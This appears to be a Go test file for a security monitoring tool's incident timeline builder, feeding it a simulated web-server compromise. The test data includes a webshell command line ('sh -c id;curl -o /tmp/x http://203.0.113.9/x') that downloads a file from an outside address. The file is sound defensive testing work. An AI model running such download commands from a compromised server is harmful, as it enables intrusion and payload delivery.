package incident_test

import (
	"context"
	"fmt"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/center/incident"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/store"
	"github.com/vigilsec/vigil/internal/store/sqlite"
)

var t0 = time.Date(2026, 5, 4, 2, 38, 0, 0, time.UTC)

// story is a web server's worker that starts a shell, which downloads a
// tool, connects out and writes a file; beside it, unrelated work on the
// same host and another host.
type story struct {
	n   int
	evs []event.Event
}

func (s *story) add(agent string, at time.Duration, category, action string, fields map[string]any) event.Event {
	s.n++
	ev := event.New(fmt.Sprintf("ev-%02d", s.n), t0.Add(at), category, action)
	ev.Set(event.FieldAgentID, agent)
	for k, v := range fields {
		ev.Set(k, v)
	}
	s.evs = append(s.evs, ev)
	return ev
}

func proc(entity string, pid int, exe, cmd, parent string, ancestry ...string) map[string]any {
	m := map[string]any{
		"process.entity_id": entity, "process.pid": float64(pid), "process.executable": exe,
		"process.command_line": cmd, "user.name": "www-data", "user.id": "33",
	}
	if parent != "" {
		m["process.parent.entity_id"] = parent
	}
	var anc []any
	for i, a := range ancestry {
		anc = append(anc, map[string]any{"entity_id": a, "pid": float64(900 - i)})
	}
	if len(anc) > 0 {
		// The chain ends at init: the worker's master is init's child.
		anc = append(anc, map[string]any{"entity_id": "p-nginx-master", "pid": float64(600)},
			map[string]any{"entity_id": "p-init", "pid": float64(1)})
		m["process.ancestry"] = anc
	}
	return m
}

func with(m map[string]any, kv ...any) map[string]any {
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1]
	}
	return m
}

func TestBuild(t *testing.T) {
	ctx := context.Background()
	st, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "vigil.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close() })

	var s story
	worker := proc("p-worker", 700, "/usr/sbin/nginx", "nginx: worker process", "p-nginx-master")
	s.add("web-1", 0, "process", "exec", worker)
	shell := s.add("web-1", time.Minute, "process", "exec",
		proc("p-sh", 1001, "/usr/bin/dash", "sh -c id;curl -o /tmp/x http://203.0.113.9/x", "p-worker", "p-worker"))
	s.add("web-1", time.Minute+time.Second, "process", "exec",
		proc("p-curl", 1002, "/usr/bin/curl", "curl -o /tmp/x http://203.0.113.9/x", "p-sh", "p-sh", "p-worker"))
	s.add("web-1", time.Minute+2*time.Second, "network", "connection-attempted",
		with(proc("p-curl", 1002, "/usr/bin/curl", "curl -o /tmp/x http://203.0.113.9/x", "p-sh", "p-sh", "p-worker"),
			"source.ip", "10.0.0.5", "source.port", float64(41000), "destination.ip", "203.0.113.9",
			"destination.port", float64(80), "network.direction", "outbound"))
	s.add("web-1", time.Minute+3*time.Second, "file", "file-created",
		with(proc("p-curl", 1002, "/usr/bin/curl", "curl -o /tmp/x http://203.0.113.9/x", "p-sh", "p-sh", "p-worker"),
			"file.path", "/tmp/x"))
	// Beyond the shell's tree, but the same address: a later login from it.
	s.add("web-1", 5*time.Minute, "authentication", "login-failed",
		map[string]any{"user.name": "admin", "source.ip": "203.0.113.9"})
	// The worker's other work: another request's CGI script, not the
	// shell's.
	s.add("web-1", 90*time.Second, "process", "exec", proc("p-other-cgi", 1100, "/usr/bin/perl", "perl /srv/cgi-bin/status.pl", "p-worker", "p-worker"))
	// Unrelated on the same host: cron's job and a login from elsewhere.
	s.add("web-1", 2*time.Minute, "process", "exec", proc("p-cron-job", 2001, "/usr/bin/run-parts", "run-parts /etc/cron.hourly", "p-cron"))
	s.add("web-1", 3*time.Minute, "authentication", "logged-in", map[string]any{"user.name": "alice", "source.ip": "198.51.100.1"})
	// Outside the time span.
	s.add("web-1", -3*time.Hour, "process", "exec", proc("p-old", 5, "/usr/bin/true", "true", "p-sh"))
	// Another host, not in the incident.
	s.add("db-1", time.Minute, "process", "exec", proc("p-other", 77, "/usr/bin/dash", "sh", ""))
	if _, err := st.Events().Insert(ctx, s.evs); err != nil {
		t.Fatal(err)
	}

	a, _, err := st.Alerts().Raise(ctx, store.Alert{
		AgentID: "web-1", Hostname: "web-1", RuleID: "r-webshell", Title: "Web server worker started a shell",
		Severity: store.SeverityHigh, State: store.AlertNew, Techniques: []string{"T1505.003"},
		DedupKey: "k1", CreatedAt: t0.Add(time.Minute), EventIDs: []string{shell.ID()},
		Evidence: map[string]any{"event": map[string]any(shell)},
	})
	if err != nil {
		t.Fatal(err)
	}
	inc, _, err := st.Incidents().Attach(ctx, store.Join{
		AlertID: a.ID, Entities: incident.Entities("web-1", shell), Window: time.Hour, Title: "webshell", At: t0.Add(time.Minute),
	})
	if err != nil {
		t.Fatal(err)
	}
	// The connection's alert brings the address.
	conn := s.evs[3]
	b, _, err := st.Alerts().Raise(ctx, store.Alert{
		AgentID: "web-1", Hostname: "web-1", RuleID: "r-download", Title: "Download by a web shell",
		Severity: store.SeverityMedium, State: store.AlertNew, Techniques: []string{"T1105"},
		DedupKey: "k2", CreatedAt: t0.Add(time.Minute + 2*time.Second), EventIDs: []string{conn.ID()},
		Evidence: map[string]any{"event": map[string]any(conn)},
	})
	if err != nil {
		t.Fatal(err)
	}
	inc, _, err = st.Incidents().Attach(ctx, store.Join{
		AlertID: b.ID, Entities: incident.Entities("web-1", conn), Window: time.Hour, At: t0.Add(time.Minute),
	})
	if err != nil {
		t.Fatal(err)
	}

	tl, err := incident.Build(ctx, st, inc, incident.TimelineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, e := range tl.Entries {
		ids = append(ids, e.EventID)
	}
	// The worker that started the shell, the shell, its child's exec,
	// connection and file, and the failed login from the same address;
	// in time order.
	want := []string{"ev-01", "ev-02", "ev-03", "ev-04", "ev-05", "ev-06"}
	if !slices.Equal(ids, want) {
		t.Errorf("entries %v, want %v", ids, want)
	}
	if len(tl.Alerts) != 2 || !slices.Equal(tl.Entries[1].AlertIDs, []string{a.ID}) {
		t.Errorf("alerts %d, shell's alerts %v", len(tl.Alerts), tl.Entries[1].AlertIDs)
	}
	if len(tl.Processes) != 1 || tl.Processes[0].EntityID != "p-worker" || len(tl.Processes[0].Children) != 1 {
		t.Fatalf("process tree: %d roots", len(tl.Processes))
	}
	sh := tl.Processes[0].Children[0]
	if sh.EntityID != "p-sh" || len(sh.Children) != 1 || sh.Children[0].EntityID != "p-curl" || !slices.Equal(sh.AlertIDs, []string{a.ID}) {
		t.Fatalf("shell node %+v", sh)
	}
	if c := sh.Children[0]; c.CommandLine != "curl -o /tmp/x http://203.0.113.9/x" || c.Events != 3 || c.PID != 1002 {
		t.Errorf("curl node %+v", c)
	}
	if len(tl.Peers) != 1 || tl.Peers[0].IP != "203.0.113.9" || !slices.Equal(tl.Peers[0].Ports, []int{80}) {
		t.Errorf("peers %+v", tl.Peers)
	}
	if len(tl.Files) != 1 || tl.Files[0].Path != "/tmp/x" || tl.Files[0].Actions[0] != "file-created" {
		t.Errorf("files %+v", tl.Files)
	}
	if len(tl.Techniques) != 2 || tl.Techniques[0].ID != "T1105" {
		t.Errorf("techniques %+v", tl.Techniques)
	}
	if tl.Truncated {
		t.Error("truncated")
	}
	if got := tl.Entries[2].Summary; got != "exec curl -o /tmp/x http://203.0.113.9/x (pid 1002, www-data)" {
		t.Errorf("summary %q", got)
	}

	// Bounds: at most 2 events kept, the newest.
	tl, err = incident.Build(ctx, st, inc, incident.TimelineOptions{MaxEvents: 2})
	if err != nil {
		t.Fatal(err)
	}
	if len(tl.Entries) != 2 || !tl.Truncated || tl.Entries[1].EventID != "ev-06" {
		t.Errorf("bounded: %d entries, truncated %v", len(tl.Entries), tl.Truncated)
	}
}
